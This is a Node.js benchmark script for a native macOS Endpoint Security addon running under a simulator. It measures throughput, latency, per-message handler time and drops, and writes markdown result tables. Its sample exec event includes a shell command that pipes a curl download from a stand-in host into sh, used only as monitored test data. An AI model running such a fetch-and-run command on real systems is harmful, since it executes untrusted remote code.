#!/usr/bin/env node
// Benchmark of the native ES addon through the ES simulator (run by `npm run bench -- native`).
//
// Measures, over the built dist/ and native/build:
//  1. events/s delivered into JavaScript with batching (256/call) against one event per call,
//     side by side in the same run, and through the EndpointSecuritySource (ExecEvent objects);
//  2. p50/p99 latency from ES handler entry to the JavaScript callback at 5,000 events/s;
//  3. time spent on the ES thread per message (inside the handler block);
//  4. drops at 50,000 events/s sustained for 10 s.
// Goals (issue 3): ≥ 500,000 events/s, p99 < 5 ms, < 2 µs per message, zero drops at 50,000/s.
import os from 'node:os';
import { monitorEventLoopDelay } from 'node:perf_hooks';
import { loadNativeAddon } from '../../dist/native/addon.js';
import { EndpointSecuritySource } from '../../dist/sources/endpoint-security.js';

const addon = loadNativeAddon();
const sim = addon.sim;
if (!sim) {
  console.error('native bench: needs the simulator build of the addon (Linux)');
  process.exit(1);
}

const message = {
  type: 'exec',
  version: 7,
  process: { pid: 301, pidversion: 11, ppid: 300, executable: '/sbin/emond', signingId: 'com.apple.emond' },
  target: {
    pid: 301,
    pidversion: 12,
    ppid: 300,
    executable: '/bin/sh',
    signingId: 'com.apple.sh',
    teamId: '',
    cdhash: '28CD2C759132B07D63C3A2B377AD440A6C66098E',
    startTime: { sec: 1754572895, usec: 877422 },
    parent: { pid: 300, pidversion: 7 },
    responsible: { pid: 300, pidversion: 7 },
  },
  args: ['/bin/sh', '-c', 'curl -s http://example.invalid/payload | sh'],
  cwd: '/',
};

const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const log = (text) => process.stderr.write(`${text}\n`);

function percentile(sorted, p) {
  if (sorted.length === 0) return NaN;
  return sorted[Math.min(sorted.length - 1, Math.floor((p / 100) * sorted.length))];
}

/** Runs `count` messages at full speed through a client; returns delivered/s and ES-thread time. */
async function throughput(label, count, start) {
  sim.resetHandlerTiming();
  let delivered = 0;
  let finished;
  const done = new Promise((resolve) => (finished = resolve));
  const t0 = performance.now();
  const handle = start((n) => {
    delivered += n;
    if (delivered >= count) finished();
  });
  sim.burst({ message, count, ratePerSecond: 0 });
  // Also finish if events were dropped (they never arrive).
  const poll = setInterval(() => {
    const s = handle.stats();
    if (s.received >= count && s.delivered + s.queueDrops >= count) finished();
  }, 20);
  await done;
  const seconds = (performance.now() - t0) / 1000;
  clearInterval(poll);
  const stats = handle.stats();
  handle.stop();
  const timing = sim.handlerTiming();
  await sleep(50);
  const result = {
    label,
    count,
    seconds,
    perSecond: stats.delivered / seconds,
    delivered: stats.delivered,
    queueDrops: stats.queueDrops,
    batches: stats.batches,
    esNsPerMessage: timing.totalNs / timing.calls,
    esMaxNs: timing.maxNs,
  };
  log(`  ${label}: ${Math.round(result.perSecond).toLocaleString('en-US')} events/s, ${result.esNsPerMessage.toFixed(0)} ns/message on the ES thread`);
  return result;
}

function rawClient(options) {
  return (onEvents) => {
    const client = new addon.EsClient({ queueCapacity: 1 << 20, ...options });
    client.start((events) => onEvents(events.length), (error) => log(`onError: ${error}`));
    return client;
  };
}

function sourceClient(options) {
  return (onEvents) => {
    const source = new EndpointSecuritySource({ addon, client: { queueCapacity: 1 << 20, ...options } });
    source.start((events) => onEvents(events.length), (error) => log(`onError: ${error.message}`));
    return source;
  };
}

async function latency(rate, seconds) {
  const latencies = [];
  // Control measured alongside: how late the event loop itself runs (a 1 ms timer), which is what
  // the machine's load does to any callback, ours or not.
  const loopDelay = monitorEventLoopDelay({ resolution: 1 });
  loopDelay.enable();
  const client = new addon.EsClient({});
  client.start(
    (events) => {
      const now = addon.nowNs();
      for (const event of events) latencies.push(now - event.handlerEntryNs);
    },
    () => {},
  );
  sim.burst({ message, count: rate * seconds, ratePerSecond: rate });
  while (client.stats().delivered < rate * seconds) await sleep(50);
  const stats = client.stats();
  client.stop();
  loopDelay.disable();
  latencies.sort((a, b) => a - b);
  return {
    count: latencies.length,
    p50: percentile(latencies, 50) / 1e6,
    p99: percentile(latencies, 99) / 1e6,
    max: latencies.at(-1) / 1e6,
    loopP99: loopDelay.percentile(99) / 1e6,
    loopMax: loopDelay.max / 1e6,
    stats,
  };
}

async function sustained(rate, seconds) {
  sim.resetHandlerTiming();
  const client = new addon.EsClient({});
  let delivered = 0;
  client.start((events) => (delivered += events.length), () => {});
  const t0 = performance.now();
  sim.burst({ message, count: rate * seconds, ratePerSecond: rate });
  // Poll without blocking the JS thread, which must keep consuming.
  while (sim.handlerTiming().calls < rate * seconds && performance.now() - t0 < (seconds + 30) * 1000) await sleep(20);
  const produceSeconds = (performance.now() - t0) / 1000;
  while (client.stats().delivered + client.stats().queueDrops < rate * seconds) await sleep(20);
  const stats = client.stats();
  client.stop();
  const timing = sim.handlerTiming();
  return { rate, seconds, produceSeconds, stats, delivered, esNsPerMessage: timing.totalNs / timing.calls, esMaxNs: timing.maxNs };
}

// Latency and the sustained run first, on a fresh heap: the throughput runs leave garbage behind.
// Three rounds, judged on the median p99: a shared 2-core machine preempts our threads now and then.
log('native bench: latency at 5,000 events/s, 3 rounds of 3 s');
const loadBefore = os.loadavg()[0];
const latencyRounds = [];
for (let round = 0; round < 3; round++) {
  globalThis.gc?.();
  const r = await latency(5000, 3);
  latencyRounds.push(r);
  log(`  p50 ${r.p50.toFixed(3)} ms, p99 ${r.p99.toFixed(3)} ms, max ${r.max.toFixed(3)} ms (event-loop delay p99 ${r.loopP99.toFixed(3)} ms)`);
}
const lat = [...latencyRounds].sort((a, b) => a.p99 - b.p99)[1];

log('native bench: 50,000 events/s sustained for 10 s');
globalThis.gc?.();
const sus = await sustained(50_000, 10);
log(`  drops: queue ${sus.stats.queueDrops}, delivered ${sus.stats.delivered}`);

const N = 1_000_000;
log('native bench: throughput (batch 256 vs 1, same run, alternating)');
const rounds = [];
for (let round = 0; round < 2; round++) {
  globalThis.gc?.();
  rounds.push(await throughput('batch 256', N, rawClient({ batchSize: 256 })));
  globalThis.gc?.();
  rounds.push(await throughput('batch 1', N / 5, rawClient({ batchSize: 1 })));
  globalThis.gc?.();
  rounds.push(await throughput('source (ExecEvent), batch 256', N / 2, sourceClient({ batchSize: 256 })));
}
const best = (label) => rounds.filter((r) => r.label === label).sort((a, b) => b.perSecond - a.perSecond)[0];
const batched = best('batch 256');
const single = best('batch 1');
const source = best('source (ExecEvent), batch 256');

const fmt = (n) => Math.round(n).toLocaleString('en-US');
const pass = (ok) => (ok ? '✅ pass' : '❌ fail');
const esPerMessageUs = batched.esNsPerMessage / 1000;
const lines = [
  '## Native ES addon (simulated Endpoint Security → JavaScript)',
  '',
  'The ES simulator (native/sim) calls the addon\'s real handler block on its own thread; the addon converts each',
  'message, queues it, and a delivery thread hands batches to JavaScript through a thread-safe function, where',
  'they are decoded into plain objects. Best of two alternating rounds per configuration.',
  '',
  '| Measure | Figure | Goal | Result |',
  '| --- | --- | --- | --- |',
  `| Delivered into JS, batches of 256 (${fmt(batched.count)} events) | ${fmt(batched.perSecond)} events/s | ≥ 500,000/s | ${pass(batched.perSecond >= 500_000)} |`,
  `| Delivered into JS, one event per call (${fmt(single.count)} events) | ${fmt(single.perSecond)} events/s | — | batching is ${(batched.perSecond / single.perSecond).toFixed(1)}× faster |`,
  `| Through EndpointSecuritySource as ExecEvent, batches of 256 | ${fmt(source.perSecond)} events/s | — | ${(source.perSecond / batched.perSecond * 100).toFixed(0)}% of raw delivery |`,
  `| Latency handler entry → JS callback at 5,000/s, p50 (median round) | ${lat.p50.toFixed(3)} ms | — | — |`,
  `| Latency handler entry → JS callback at 5,000/s, p99 (median round; rounds: ${latencyRounds.map((r) => r.p99.toFixed(2)).join(', ')} ms) | ${lat.p99.toFixed(3)} ms | < 5 ms | ${pass(lat.p99 < 5)} |`,
  `| Time on the ES thread per message (mean, full-speed run) | ${esPerMessageUs.toFixed(3)} µs | < 2 µs | ${pass(esPerMessageUs < 2)} |`,
  `| Time on the ES thread per message (mean, 50,000/s run) | ${(sus.esNsPerMessage / 1000).toFixed(3)} µs | < 2 µs | ${pass(sus.esNsPerMessage < 2000)} |`,
  `| Drops at 50,000/s for 10 s (${fmt(sus.rate * sus.seconds)} events) | ${fmt(sus.stats.queueDrops)} queue, ${fmt(sus.stats.kernelDrops.global)} kernel | 0 | ${pass(sus.stats.queueDrops === 0 && sus.stats.delivered === sus.rate * sus.seconds)} |`,
  '',
  '| Latency round (5,000/s, 3 s) | p50 ms | p99 ms | max ms | event-loop delay p99 ms (control) | event-loop delay max ms |',
  '| --- | ---: | ---: | ---: | ---: | ---: |',
  ...latencyRounds.map(
    (r, i) => `| ${i + 1} | ${r.p50.toFixed(3)} | ${r.p99.toFixed(3)} | ${r.max.toFixed(3)} | ${r.loopP99.toFixed(3)} | ${r.loopMax.toFixed(3)} |`,
  ),
  '',
  '| Run | Events | Seconds | Events/s | Batches | Queue drops | ES ns/message (mean) | ES max ns |',
  '| --- | ---: | ---: | ---: | ---: | ---: | ---: | ---: |',
  ...rounds.map(
    (r) =>
      `| ${r.label} | ${fmt(r.count)} | ${r.seconds.toFixed(2)} | ${fmt(r.perSecond)} | ${fmt(r.batches)} | ${fmt(r.queueDrops)} | ${fmt(r.esNsPerMessage)} | ${fmt(r.esMaxNs)} |`,
  ),
  `| 50,000/s sustained | ${fmt(sus.rate * sus.seconds)} | ${sus.produceSeconds.toFixed(2)} | ${fmt(sus.stats.delivered / sus.produceSeconds)} | ${fmt(sus.stats.batches)} | ${fmt(sus.stats.queueDrops)} | ${fmt(sus.esNsPerMessage)} | ${fmt(sus.esMaxNs)} |`,
  '',
  'Notes: "ES thread time" is measured by the simulator around each handler call (conversion, parent-path lookup',
  'in the simulated process table, queue push; two clock reads included). The simulator cannot reproduce the real',
  'kernel\'s drops, so kernel drops here are 0 by construction; queue drops are real. On this 2-core machine the',
  'simulated ES thread, the delivery thread and the JS thread compete for the cores (and with whatever else runs:',
  `1-minute load average ${loadBefore.toFixed(2)} when this run started); preemption inside a handler call shows in`,
  'the ES-thread figures and in the latency tail. Default options except where stated (batch latency 1 ms).',
];
process.stdout.write(`${lines.join('\n')}\n`);
